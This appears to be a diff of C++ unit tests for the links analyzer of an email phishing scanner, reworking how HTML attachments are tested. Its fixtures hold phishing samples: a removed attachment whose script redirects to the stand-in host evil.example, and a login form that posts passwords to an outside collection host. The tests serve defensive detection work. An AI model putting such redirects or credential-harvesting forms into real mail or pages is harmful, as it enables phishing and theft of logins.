@@ -25,7 +25,7 @@ std::map<std::string, Seen> scan_with(const Config& config, std::string_view mes
   for (const Finding& f : r.findings) {
     if (f.analyzer != "links") continue;
     Seen s{f.confidence, f.score, {}};
-    for (const Evidence& e : f.evidence) s.evidence += e.location + " " + e.value + "\n";
+    for (const Evidence& e : f.evidence) s.evidence += e.field + " " + e.value + "\n";
     out[f.id] = s;
   }
   return out;
@@ -247,17 +247,8 @@ TEST(LinksTest, SearchBoxOfTheSenderIsNotReported) {
   EXPECT_TRUE(scan(html_mail("<form action=\"https://www.sender.example/search\"><input name=q></form>")).empty());
 }
 
-TEST(LinksTest, HtmlAttachments) {
-  const std::string octet =
-      "From: a@sender.example\nTo: b@org.example\nSubject: invoice\n"
-      "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nsee attached\n"
-      "--b\nContent-Type: application/octet-stream; name=\"Invoice_0423.html\"\n"
-      "Content-Disposition: attachment; filename=\"Invoice_0423.html\"\n\n"
-      "<html><script>window.location.href='https://evil.example/'+atob('eA==');</script></html>\n--b--\n";
-  const auto f = scan(octet);
-  ASSERT_TRUE(f.contains("HTML_ATTACHMENT_PHISHING"));
-  EXPECT_NE(f.at("HTML_ATTACHMENT_PHISHING").evidence.find("redirect"), std::string::npos);
-
+// A log-in page attached: its form is the links analyzer's (the page itself is html_attachment's).
+TEST(LinksTest, FormsOfHtmlAttachments) {
   const std::string login =
       "From: a@sender.example\nTo: b@org.example\nSubject: voicemail\n"
       "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nlisten\n"
@@ -266,17 +257,8 @@ TEST(LinksTest, HtmlAttachments) {
       "<html><form action=\"https://collect.example.net/p\"><input name=e>"
       "<input type=\"password\" name=p></form></html>\n--b--\n";
   const auto g = scan(login);
-  EXPECT_TRUE(g.contains("HTML_ATTACHMENT_PHISHING"));
   EXPECT_TRUE(g.contains("CREDENTIAL_FORM"));
-
-  // An HTML attachment that is only a document (a saved page without form or redirect).
-  const std::string page =
-      "From: a@sender.example\nTo: b@org.example\nSubject: minutes\n"
-      "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nminutes\n"
-      "--b\nContent-Type: text/html; name=\"minutes.html\"\n"
-      "Content-Disposition: attachment; filename=\"minutes.html\"\n\n"
-      "<html><h1>Minutes</h1><p>Nothing to see.</p></html>\n--b--\n";
-  EXPECT_TRUE(scan(page).empty());
+  EXPECT_FALSE(g.contains("HTML_ATTACHMENT_PHISHING"));
 }
 
 TEST(LinksTest, TemporaryMailReplyTo) {
